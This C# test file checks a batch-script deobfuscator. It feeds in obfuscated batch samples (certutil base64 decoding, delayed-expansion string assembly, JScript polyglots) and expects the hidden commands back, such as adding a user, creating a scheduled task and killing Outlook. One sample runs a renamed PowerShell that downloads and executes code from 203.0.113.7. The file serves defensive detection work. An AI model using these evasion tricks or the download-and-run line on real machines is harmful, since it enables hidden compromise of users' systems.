using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

/// <summary>Batch files that put their commands together while they run, and honest ones that use the same words.</summary>
public sealed class BatchDisguiseTests
{
    private static string[] Lines(string batch) => [.. Deobfuscator.Judge(batch).Text.Split('\n').Select(line => line.Trim()).Where(line => line.Length > 0 && !line.StartsWith("set", StringComparison.Ordinal)
        && !line.StartsWith("call set", StringComparison.Ordinal) && !line.StartsWith("@echo", StringComparison.Ordinal))];

    [Theory]
    [InlineData("@echo off\nset \"q=sc_w_hta_w_sks /cre_w_ate /t_w_n U /t_w_r x\"\n%q:_w_=%\n", "schtasks /create /tn U /tr x")]
    [InlineData("@echo off\nsetlocal enabledelayedexpansion\nset \"k=whoami /\"\nset \"v=\"\nfor %%i in (0 1 2 3 4 5 6 7 3) do set \"v=!v!!k:~%%i,1!\"\n!v!\n", "whoami /a")]
    [InlineData("@echo off\nset z=\ncall set \"z=%%z%%net us\"\ncall set \"z=%%z%%er sup\"\ncall set \"z=%%z%% /add\"\ncall %%z%%\n", "net user sup /add")]
    [InlineData("@echo off\ncmd /V:ON /C \"set a=/im &&set b=outlook.exe&&set c=taskkill /f &&!c!!a!!b!\"\n", "taskkill /f /im outlook.exe")]
    [InlineData("@echo off\n@c^md /V:^O/C\"s^e^t q=imaohw&&f^or /L %%i in (5,-1,0)d^o s^et z=!z!!q:~%%i,1!&&i^f %%i==0 c^all %%z:~-6%%\"\n", "whoami")]
    [InlineData("@echo off\nset \"a=RwBlAHQA\"\nset \"b=LQBEAGEAdABlAA==\"\npowershell -e %a%%b%\n", "Get-Date")]
    [InlineData("@echo off\n>\"%TEMP%\\q.b64\" echo -----BEGIN CERTIFICATE-----\n>>\"%TEMP%\\q.b64\" echo d2hvYW1pIC9hbGw=\n>>\"%TEMP%\\q.b64\" echo -----END CERTIFICATE-----\ncertutil -decode \"%TEMP%\\q.b64\" \"%TEMP%\\q.bat\" >nul\ncall \"%TEMP%\\q.bat\"\n", "whoami /all")]
    [InlineData("@echo off\necho|set /p=\"R2V0LUR\">>%TEMP%\\h\necho|set /p=\"hdGU=\">>%TEMP%\\h\npowershell -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-Content $env:TEMP\\h -Raw))))\"\n", "Get-Date")]
    [InlineData("@echo off\npowershell -nop -c \"$l=[IO.File]::ReadAllText('%~f0');$i=$l.LastIndexOf(':'+':');iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($l.Substring($i+2).Trim())))\"\nexit /b\n::R2V0LURhdGU=\n", "Get-Date")]
    [InlineData("@if (@a)==(@b) @end /*\n@cscript //nologo //e:jscript \"%~f0\" & exit /b\n*/\nvar s = new ActiveXObject('WScript.Shell');\ns.Run(String.fromCharCode(112,111,119,101,114,115,104,101,108,108,32,45,99,32)+\"Get-Date\", 0, false);\n", "Get-Date")]
    public void What_is_put_together_is_shown(string batch, string command) =>
        Assert.Contains(Lines(batch), line => line == command || line.EndsWith(";" + command, StringComparison.Ordinal));

    [Fact]
    public void Lines_that_were_dealt_out_to_labels_come_back_into_order()
    {
        var text = Lines("@echo off\ngoto a1\n:c3\ngpupdate /force\ngoto d4\n:a1\nipconfig /flushdns\ngoto b2\n:d4\nexit /b\n:b2\nipconfig /registerdns\ngoto c3\n");
        Assert.Equal(["ipconfig /flushdns", "ipconfig /registerdns", "gpupdate /force", "exit /b"], text);
    }

    [Theory]
    [InlineData("@echo off\ngoto a\n:c\nif exist x goto d\ngoto d\n:a\nipconfig\ngoto b\n:d\nexit /b\n:b\nping a\ngoto c\n")]
    [InlineData("@echo off\n:again\nping a\ngoto b\n:c\ngoto again\n:b\ngoto c\n")]
    [InlineData("@echo off\ngoto main\n:sub\nping a\ngoto end\n:main\ncall :sub\ngoto end\n:other\nipconfig\ngoto end\n:end\nexit /b\n")]
    [InlineData("@echo off\nset \"D=%DATE:/=-%\"\nset \"N=%COMPUTERNAME: =%\"\nrobocopy C:\\a D:\\%N%\\%D%\n")]
    [InlineData("@echo off\nset A=1\nset B=2\ncall set \"V=%%A%%.%%B%%\"\necho %V%\n")]
    [InlineData("@echo off\necho|set /p=\"working\"\necho done>>%TEMP%\\log.txt\n")]
    [InlineData("@echo off\nset \"JAVA=C:\\java\\bin\\java.exe\"\nset \"OPTS=-Xmx1g -jar\"\n\"%JAVA%\" %OPTS% app.jar\n")]
    public void Honest_batch_files_stay(string batch) => Assert.Equal(batch, Deobfuscator.Judge(batch).Text);

    [Fact]
    public void A_shell_under_another_name_is_a_shell() =>
        Assert.True(Deobfuscator.Judge("@echo off\ncopy C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe \"%~0.exe\" /y\n\"%~nx0.exe\" -w hidden -c iex (iwr http://203.0.113.7/a)\n").Malicious);

    [Theory]
    [InlineData("@echo off\npowershell -c \"iex ([IO.File]::ReadAllText('%~f0'))\"\n")]
    [InlineData("@echo off\npowershell -c \"$t = [IO.File]::ReadAllText('%~f0'); iex ($t + $t)\"\n")]
    public void A_file_that_runs_itself_ends(string batch) => Assert.NotNull(Deobfuscator.Judge(batch).Text);

    [Theory]
    [InlineData(400, ":l{0}\ngoto l{1}\n")]
    [InlineData(4_000, "call set \"v=%%v%%%%v%%x\"\n")]
    [InlineData(4_000, "%a:x=%%b:y=%\n")]
    public void Many_of_them_end(int count, string line)
    {
        var batch = "@echo off\nset a=xqxqxqxq\n" + string.Concat(Enumerable.Range(0, count).Select(i => string.Format(System.Globalization.CultureInfo.InvariantCulture, line, i, (i * 7 + 1) % count)));
        Assert.NotNull(Deobfuscator.Judge(batch).Text);
    }
}
